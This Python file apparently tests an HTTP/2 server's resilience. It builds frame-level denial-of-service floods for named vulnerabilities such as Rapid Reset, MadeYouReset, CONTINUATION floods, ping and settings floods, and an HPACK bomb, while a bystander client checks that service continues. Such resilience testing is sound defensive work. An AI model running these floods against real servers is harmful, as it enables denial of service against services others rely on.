"""Attacks on HTTP/2 by name, each from one client while another asks for a page in peace.

Every attack yields what it writes, piece by piece; it is over when the edge ends the connection, or when there is
nothing more to write: then the edge has taken it all, which the findings tell.
"""

from wire import *

ROUNDS = 400


def play_attack(port, tls, quiet, pieces, **more):
    bystander = Bystander(port, tls, quiet)
    client = Client(port, tls, **more).ready()
    pieces_sent = 0
    for piece in pieces(client):
        client.send(piece)
        pieces_sent += 1
        while not client.closed and client.absorb(0):
            pass
        if client.closed or client.goaways:
            break
    client.until_closed(PATIENCE if client.goaways else PATIENCE / 4)
    found = {
        "goaway": client.goaway, "debug": client.goaways[-1][2] if client.goaways else "", "closed": client.closed,
        "pieces": pieces_sent, "resets": sum(reply.reset is not None for reply in client.replies.values()),
        "statuses": sorted({reply.status for reply in client.replies.values() if reply.status}),
    }
    client.close()
    return {**found, **bystander.stop()}


def request_bytes(client, path, stream=None, ends=True, extra=(), method="GET"):
    """HEADERS of one small request, without waiting for anything."""
    if stream is None:
        stream = client.open()
    flags = END_HEADERS | (END_STREAM if ends else 0)
    return stream, frame(HEADERS, flags, stream, client.encode(client.fields(method, path, None, extra)))


def rapid_reset(port, tls, quiet, path):
    """CVE-2023-44487: requests that are reset at once."""
    def pieces(client):
        for _ in range(ROUNDS):
            out = b""
            for _ in range(50):
                stream, head = request_bytes(client, path)
                out += head + rst_stream(stream)
            yield out
    return play_attack(port, tls, quiet, pieces)


def rapid_reset_later(port, tls, quiet, path):
    """The same with the resets of one batch in the next write, so that the requests have begun."""
    def pieces(client):
        resets = b""
        for _ in range(ROUNDS):
            out, next_resets = resets, b""
            for _ in range(20):
                stream, head = request_bytes(client, path)
                out += head
                next_resets += rst_stream(stream)
            resets = next_resets
            yield out
    return play_attack(port, tls, quiet, pieces)


def made_you_reset(port, tls, quiet, path, way):
    """CVE-2025-8671: errors that make the edge reset its own streams."""
    ways = {
        "window of 0": lambda stream: window_update(stream, 0),
        "window too large": lambda stream: window_update(stream, (1 << 31) - 1),
        "PRIORITY too short": lambda stream: frame(PRIORITY, 0, stream, b"\0\0\0\0"),
        "content-length broken": lambda stream: frame(DATA, END_STREAM, stream, b"more than one"),
        "trailers that end nothing": lambda stream: frame(HEADERS, END_HEADERS, stream, b"\x82"),
    }

    def pieces(client):
        for _ in range(ROUNDS):
            out = b""
            for _ in range(20):
                stream, head = request_bytes(client, path, None, False, [("content-length", "1")], "POST")
                out += head + ways[way](stream)
            yield out
    return play_attack(port, tls, quiet, pieces)


def faulty_requests(port, tls, quiet, path):
    """Requests that are reset for what stands in them."""
    def pieces(client):
        for _ in range(ROUNDS):
            yield b"".join(request_bytes(client, path, None, True, [("connection", "close")])[1] for _ in range(20))
    return play_attack(port, tls, quiet, pieces)


def continuations(port, tls, quiet, path, size):
    """CVE-2024-27316: a block that never ends, in CONTINUATION frames of `size` bytes."""
    def pieces(client):
        stream = client.open()
        yield frame(HEADERS, END_STREAM, stream, client.encode(client.fields("GET", path)))
        field = b"\x00\x03x-a" + b"\x7f" + b"\x81\x00" + b"v" * 256
        body = (field * (size // len(field) + 1))[:size // len(field) * len(field)] if size else b""
        for _ in range(ROUNDS):
            yield frame(CONTINUATION, 0, stream, body) * (8 if size else 100)
    return play_attack(port, tls, quiet, pieces)


def settings_flood(port, tls, quiet, path, values):
    """CVE-2019-9515: SETTINGS that want to be acknowledged."""
    def pieces(client):
        for _ in range(20):
            yield request_bytes(client, path)[1]
        for index in range(ROUNDS):
            yield b"".join(settings([(INITIAL_WINDOW, 65535 + index % 2)] * values) for _ in range(50))
    return play_attack(port, tls, quiet, pieces)


def ping_flood(port, tls, quiet, path):
    """CVE-2019-9512."""
    def pieces(client):
        for _ in range(ROUNDS):
            yield frame(PING, 0, 0, b"12345678") * 100
    return play_attack(port, tls, quiet, pieces)


def empty_data(port, tls, quiet, path, padding):
    """CVE-2019-9518: DATA without bytes and without an end."""
    def pieces(client):
        stream, head = request_bytes(client, path, None, False, method="POST")
        yield head
        empty = frame(DATA, PADDED, stream, bytes((padding,)) + bytes(padding)) if padding else frame(DATA, 0, stream)
        for _ in range(ROUNDS):
            yield empty * 20
    return play_attack(port, tls, quiet, pieces)


def window_updates(port, tls, quiet, path, on_stream):
    """Windows opened a byte at a time while nothing is sent."""
    def pieces(client):
        stream, head = request_bytes(client, path, None, False, method="POST")
        yield head
        for _ in range(ROUNDS):
            yield window_update(stream if on_stream else 0, 1) * 200
    return play_attack(port, tls, quiet, pieces)


def dependency_games(port, tls, quiet, path):
    """CVE-2019-9513: PRIORITY that turns a tree of streams around, over and over."""
    def pieces(client):
        for index in range(ROUNDS):
            yield b"".join(frame(PRIORITY, 0, 2 * at + 1, struct.pack(">IB", (2 * (at + index) % 100 + 101) | 1 << 31, 9))
                           for at in range(100))
    return play_attack(port, tls, quiet, pieces)


def priority_updates(port, tls, quiet, path, idle):
    """The same by RFC 9218, of streams that are open, or of ever new ones that are not."""
    def pieces(client):
        stream, head = request_bytes(client, path, None, False, method="POST")
        yield head
        for index in range(ROUNDS):
            yield b"".join(priority_update(2 * (index * 100 + at) + 101 if idle else stream, f"u={at % 8}")
                           for at in range(100))
    return play_attack(port, tls, quiet, pieces)


def hpack_bomb(port, tls, quiet, path):
    """RFC 7541, section 7.3: a field of 4,000 bytes in the table, then thousands of single bytes that name it."""
    def pieces(client):
        stream = client.open()
        head = client.encode(client.fields("GET", path))
        # Literal with incremental indexing, then its index; whatever stood in the table is gone or behind it.
        field = b"\x40\x03x-b\x7f" + b"\xa1\x1e" + b"b" * 4000
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head + field)
        for _ in range(10):
            stream = client.open()
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\xbe" * 16000)
    return play_attack(port, tls, quiet, pieces)


def tiny_windows(port, tls, quiet, path):
    """CVE-2019-9511: large answers, and windows that open by a byte."""
    def pieces(client):
        client.send(window_update(0, 1 << 20))
        streams = [client.request(path) for _ in range(50)]
        client.pump(lambda: all(client.reply(stream).status for stream in streams))
        for index in range(ROUNDS):
            yield b"".join(window_update(stream, 1) for stream in streams)
            client.pump(lambda: client.goaways or sum(len(client.reply(stream).body) for stream in streams)
                        >= (index + 1) * len(streams), 5)
    return play_attack(port, tls, quiet, pieces, credits=False, announces=[(INITIAL_WINDOW, 0)])


def stream_flood(port, tls, quiet, path):
    """Far more streams than are allowed, none of them ended."""
    def pieces(client):
        for _ in range(ROUNDS):
            yield b"".join(request_bytes(client, path, None, False, method="POST")[1] for _ in range(50))
    return play_attack(port, tls, quiet, pieces)


def unknown_frames(port, tls, quiet, path):
    """Frames of a type that means nothing."""
    def pieces(client):
        for _ in range(ROUNDS):
            yield frame(0xEE, 0xFF, 0, b"?") * 100
    return play_attack(port, tls, quiet, pieces)


def deaf(port, tls, quiet, path):
    """CVE-2019-9517: asks for much on one connection with open windows, and reads nothing of it."""
    bystander = Bystander(port, tls, quiet)
    client = Client(port, tls, announces=[(INITIAL_WINDOW, (1 << 31) - 1)], receive_buffer=4096)
    client.send(window_update(0, (1 << 31) - 1 - 65535))
    client.is_deaf = True
    client.send(b"".join(request_bytes(client, path)[1] for _ in range(100)))
    say(asked=True)
    wait_for_word()
    client.close()
    return bystander.stop()


if __name__ == "__main__":
    play(globals())
